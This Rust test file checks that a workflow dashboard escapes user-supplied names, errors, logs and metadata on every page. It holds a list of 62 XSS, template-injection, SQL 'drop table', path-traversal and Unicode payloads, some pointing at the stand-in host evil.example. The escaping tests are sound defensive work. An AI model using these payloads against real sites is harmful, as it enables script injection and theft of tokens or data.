//! What users give is shown as they gave it, and is never a part of the page.

use std::collections::BTreeSet;

use runlog::model::Namespace;
use runlog::{Cx, Workflow};
use serde_json::{Value, json};

use super::sound::assert_sound;
use super::*;
use crate::http::Stage;
use crate::support::{Ground, Postgres, until};

/// Texts that take over a page that writes them down as they are.
pub const HOSTILE: [&str; 62] = [
    "<script>pwned=1</script>",
    "</script><script>pwned=1</script>",
    "</title><script>pwned=1</script>",
    "</textarea><script>pwned=1</script>",
    "</pre></code></td></table><script>pwned=1</script>",
    "</style><script>pwned=1</script>",
    "--><script>pwned=1</script>",
    "]]><script>pwned=1</script>",
    "<!--<script>pwned=1//-->",
    "<![CDATA[<script>pwned=1</script>]]>",
    "<ScRiPt src=//evil.example></sCrIpT>",
    "<script/x>pwned=1</script/x>",
    "<<script>pwned=1//<</script>",
    "<img src=x onerror=pwned=1>",
    "<img src=x onerror=pwned=1",
    "\"><img src=x onerror=pwned=1>",
    "'><img src=x onerror=pwned=1>",
    "` onerror=`pwned=1",
    "\" onmouseover=\"pwned=1",
    "' onmouseover='pwned=1",
    "\" autofocus onfocus=pwned=1 x=\"",
    "\" style=\"position:fixed;inset:0",
    " onclick=pwned=1 ",
    "<svg onload=pwned=1>",
    "<svg><script>pwned=1</script></svg>",
    "<svg><animate onbegin=pwned=1 attributeName=x>",
    "<svg><a xlink:href=\"javascript:pwned=1\"><text>x</text></a></svg>",
    "<math><mtext><style><img src=x onerror=pwned=1>",
    "<iframe srcdoc=\"<script>parent.pwned=1</script>\">",
    "<iframe src=javascript:pwned=1>",
    "<object data=javascript:pwned=1>",
    "<embed src=javascript:pwned=1>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<link rel=stylesheet href=//evil.example>",
    "<form action=//evil.example><input name=token>",
    "<button formaction=//evil.example>go</button>",
    "<input autofocus onfocus=pwned=1>",
    "<details open ontoggle=pwned=1>",
    "<video><source onerror=pwned=1>",
    "<body onload=pwned=1>",
    "<html hx-get=//evil.example hx-trigger=load>",
    "<div hx-on::load=\"pwned=1\">",
    "<a href=javascript:pwned=1>x</a>",
    "<template><script>pwned=1</script></template>",
    "<plaintext>",
    "<noscript><p title=\"</noscript><img src=x onerror=pwned=1>\">",
    "javascript:pwned=1",
    "data:text/html,<script>pwned=1</script>",
    "//evil.example/",
    "{{constructor.constructor('pwned=1')()}}",
    "${pwned=1}",
    "<%= pwned %>",
    "&lt;script&gt;pwned=1&lt;/script&gt;",
    "&#60;script&#62;pwned=1",
    "&amp;amp;&quot;&apos;",
    "'; drop table runlog.runs; --",
    "%3Cscript%3Epwned=1%3C/script%3E%00%2F..%2F",
    "../../../etc/passwd?x=1#y&z=%",
    "\u{202e}nuf\u{202c} \u{2066}\u{feff}\u{200b}\u{fffd}",
    "\\u003cscript\\u003e \\0 \\\" \\",
    "\u{ff1c}script\u{ff1e}pwned=1 \u{1f4a3} e\u{301}\u{301}\u{301}",
];

#[derive(Debug, thiserror::Error)]
#[error("{0}")]
struct Hostile(String, #[source] Cause);

#[derive(Debug, thiserror::Error)]
#[error("{0}")]
struct Cause(String);

/// Is hostile wherever code can be: its name, its step's, what it says, what it fails with.
fn workflow(text: &'static str) -> Workflow<Value, Value> {
    Workflow::function(text, move |cx: Cx, input: Value| async move {
        cx.log().field(text, text).error(text);
        let step = cx.step(text, || std::future::ready(anyhow::Ok(text.to_owned()))).input(&text).await;
        step.map_err(|_| Hostile("the step".into(), Cause(String::new())))?;
        match input["fails"] == json!(true) {
            true => Err(Hostile(text.to_owned(), Cause(text.to_owned()))),
            false => Ok(input),
        }
    })
    .version(text)
}

/// Stages of one run of each text: they fail, then they are replayed and succeed.
pub struct Stages {
    pub stage: Stage,
    pub failed: Vec<(String, String)>,
    pub replayed: Vec<String>,
}

impl Stages {
    pub async fn new(texts: &[&'static str]) -> Stages {
        let ground = Postgres::new().await;
        let builder = texts.iter().fold(ground.builder(), |builder, text| builder.workflow(workflow(text)));
        let runtime = builder.node_name(texts[0]).start().await.expect("a runtime");
        let (mut failed, mut replayed) = (Vec::new(), Vec::new());
        for text in texts {
            let new =
                runtime.run_by_name(text, json!({ "fails": true, "text": text, *text: [text] }).to_string());
            let run =
                new.namespace(text).key(text).metadata([(*text, *text)]).start().await.expect("a start");
            crate::support::soon("its end", run.wait()).await.expect("an end");
            failed.push(((*text).to_owned(), run.id().to_string()));
        }
        // What no code of ours gives: the kind and the place of a failure are the user's in an imported run.
        for (text, run) in &failed {
            let (quoted, raw) = (text.replace('\'', "''"), json!(text).to_string().replace('\'', "''"));
            let disguise = format!(
                "begin; set local session_replication_role = replica;
                 update runlog.events set payload = regexp_replace(replace(payload, '\"kind\":\"Hostile\"', '\"kind\":' || '{raw}'),
                     '\"tests/it/dashboard/hostile.rs:[0-9]+\"', replace('{raw}', '\\', '\\\\'), 'g') where run_id = '{run}';
                 update runlog.runs set error_kind = '{quoted}', error_location = '{quoted}' where id = '{run}'; commit"
            );
            ground.psql(&disguise).await.unwrap_or_else(|error| panic!("{text}: {error}"));
        }
        let rest = runlog::http::router(&runtime).access(|_| Access::all(HOSTILE[0])).into_router();
        for (text, run) in &failed {
            let body =
                json!({ "input": { "text": text, text.as_str(): [text] }, "reason": text }).to_string();
            let answer = crate::http::post(&rest, &format!("/api/v1/runs/{run}/replay"), &body).await;
            let id = answer.json()["run"]["id"].as_str().unwrap_or_else(|| panic!("{answer:?}")).to_owned();
            crate::support::soon("its end", runtime.handle(id.parse().expect("an id")).wait())
                .await
                .expect("an end");
            replayed.push(id);
        }
        let lines = texts.len() as i64 * 2;
        let written = "select count(*) from runlog.log_lines";
        until("the lines are written", async || ground.count(written).await >= lines).await;
        Stages { stage: Stage { ground, runtime }, failed, replayed }
    }

    pub fn open(&self) -> Router {
        runlog::dashboard::router(&self.stage.runtime).access(|_| Access::all(HOSTILE[0])).into_router()
    }

    /// The pages that show one of the texts.
    pub async fn addresses(&self, at: usize) -> Vec<String> {
        let (text, failed) = &self.failed[at];
        let replayed = &self.replayed[at];
        let name = page::escaped(text);
        let mut found = vec![
            format!("/workflows/{name}"),
            format!("/runs?q={}", page::escaped(&format!("id:{failed},{replayed} since:1d"))),
            format!("/failures?namespace={name}"),
            format!("/runs?namespace={name}"),
            format!("/runs?q={name}"),
            format!("/bulk?action=replay&namespace={name}&q={}", page::escaped("status:failed since:1d")),
            format!("/runs/{failed}/replay?edit=1"),
            format!("/runs/{failed}/replay?task={name}"),
            format!("/runs/{failed}/cancel"),
            format!("/runs/{failed}/signal?name={name}"),
            format!("/runs/{replayed}/diff?with={failed}"),
        ];
        for run in [failed, replayed] {
            found.extend(
                ["", "/events", "/logs", "/state", "/events/1", "/events/3", "/events/4"]
                    .map(|rest| format!("/runs/{run}{rest}")),
            );
            found.push(format!("/runs/{run}/tasks/{name}"));
        }
        found
    }
}

/// The elements of a page with the names of their attributes.
fn shape(page: &Page) -> BTreeSet<String> {
    let all = page.all("*");
    all.iter()
        .map(|one| {
            let mut names: Vec<&str> = one.value().attrs().map(|(name, _)| name).collect();
            names.sort_unstable();
            format!("{} {}", one.value().name(), names.join(" "))
        })
        .collect()
}

/// The path of an address, without what differs from text to text.
fn kind(address: &str, at: usize, stages: &Stages) -> String {
    let (text, failed) = &stages.failed[at];
    let replayed = &stages.replayed[at];
    let plain = address.replace(failed, "F").replace(&page::escaped(failed), "F");
    let plain = plain.replace(replayed, "R").replace(&page::escaped(replayed), "R");
    plain.replace(&page::escaped(text), "T")
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn hostile_texts_are_shown_as_typed_and_add_no_element_and_no_attribute() {
    assert!(HOSTILE.iter().collect::<BTreeSet<_>>().len() >= 60);
    let tame = Stages::new(&["a plain text, as long as most are", "short", "another-one"]).await;
    let mut shapes = std::collections::BTreeMap::<String, BTreeSet<String>>::new();
    let app = tame.open();
    for at in 0..tame.failed.len() {
        for address in tame.addresses(at).await {
            shapes.entry(kind(&address, at, &tame)).or_default().extend(shape(&visit(&app, &address).await));
        }
    }
    let stages = Stages::new(&HOSTILE).await;
    let app = stages.open();
    for (at, text) in HOSTILE.iter().enumerate() {
        for address in stages.addresses(at).await {
            let page = visit(&app, &address).await;
            if page.status == 400 {
                // It is no filter: the page says so and keeps it.
                assert_eq!(page.value("#q"), *text, "{page:?}");
            } else if page.status == 303 {
                continue;
            } else {
                assert_eq!(page.status, 200, "{text}: {page:?}");
                let new: Vec<_> =
                    shape(&page).difference(&shapes[&kind(&address, at, &stages)]).cloned().collect();
                assert!(new.is_empty(), "{text} added {new:?} to {page:?}");
            }
            assert_sound(&page);
        }
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn each_field_shows_its_text_to_the_letter() {
    let stages = Stages::new(&HOSTILE).await;
    let app = stages.open();
    let exact = |page: &Page, selector: &str| -> Vec<String> {
        page.all(selector).into_iter().map(|one| one.text().collect()).collect()
    };
    for (at, (text, failed)) in stages.failed.iter().enumerate() {
        let page = visit(&app, &format!("/runs/{failed}")).await;
        let (kind, message) = (exact(&page, "#why .failure strong"), exact(&page, "#why .failure p"));
        assert_eq!(kind.as_slice(), std::slice::from_ref(text), "its kind");
        assert_eq!(message[0], format!("{text}: {text}"), "its message");
        assert_eq!(message[1], format!("caused by: {text}"), "its chain");
        assert_eq!(message[2], format!("at {text}"), "its place");
        assert!(exact(&page, "h1")[0].contains(text.as_str()), "its workflow");
        let facts = exact(&page, "dl.facts dd");
        let facts = facts.iter().filter(|fact| fact.trim() == text.trim()).count();
        assert_eq!(facts, 4, "its version, key, namespace and the value of its metadata: {page:?}");
        assert!(exact(&page, "dl.facts dt").contains(text), "the name of its metadata");
        let line = &exact(&page, "#logs .line")[0];
        assert!(line.matches(text.as_str()).count() >= 2, "its task and what it said: {line}");
        assert!(line.ends_with(&json!({ text: text }).to_string()), "its fields: {line}");
        let quoted = json!(text).to_string();
        let input = exact(&page, "#io .payload").concat();
        assert_eq!(input.matches(quoted.trim_matches('"')).count(), 3, "its input: {input}");
        let row = visit(&app, &format!("/runs?namespace={}", page::escaped(text))).await;
        assert!(exact(&row, "td.error")[0].contains(&format!("{text}: {text}")), "{row:?}");
        assert!(exact(&row, "a.tag")[0].contains(&format!("{text}={text}")), "{row:?}");

        let replay = visit(&app, &format!("/runs/{}", stages.replayed[at])).await;
        assert!(
            exact(&replay, "dl.facts dd").iter().any(|fact| fact.ends_with(&format!(": {text}"))),
            "its reason"
        );
        assert!(exact(&replay, "#io").concat().matches(quoted.trim_matches('"')).count() >= 6, "its output");
        let edit = visit(&app, &format!("/runs/{failed}/replay?edit=1")).await;
        let input: Value = serde_json::from_str(&edit.value("#input")).expect("the input");
        assert_eq!(input["text"], json!(text), "what is edited is what it was");
        let task = visit(&app, &format!("/runs/{failed}/tasks/{}", page::escaped(text))).await;
        assert!(
            exact(&task, "table td").iter().any(|cell| cell.trim_start().starts_with(text.trim_start())),
            "{task:?}"
        );
    }
    let audit = visit(&app, "/audit?limit=500").await;
    let reasons = exact(&audit, "td");
    assert!(HOSTILE.iter().all(|text| reasons.iter().any(|reason| reason == text)), "the audit's reasons");
    assert!(Namespace::new(HOSTILE[0]).is_ok());
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn huge_and_unprintable_texts_are_cut_or_marked_not_lost() {
    let world = World::new().await;
    let (app, rest) = (world.open(), world.stage.open());
    let huge = "<b>".repeat(60_000);
    let odd = "a\u{1}b\u{1b}[31m\u{7f}\r\n\tc";
    for input in [json!(huge), json!(odd), json!({ "a": [odd, huge] })] {
        let id = crate::http::start(
            &rest,
            json!({ "workflow": "gate", "input": input, "metadata": { "x": "y".repeat(1_000) } }),
        )
        .await;
        let page = visit(&app, &format!("/runs/{id}")).await;
        assert_eq!(page.status, 200);
        assert_sound(&page);
        assert!(page.all("main b").is_empty() && !page.text.contains('\u{0}'));
        assert!(page.text.len() < 120_000, "{} bytes", page.text.len());
        let raw = crate::http::get(&app, &format!("/api/v1/runs/{id}/input")).await;
        assert_eq!(raw.json(), input, "all of it is a click away");
    }
}
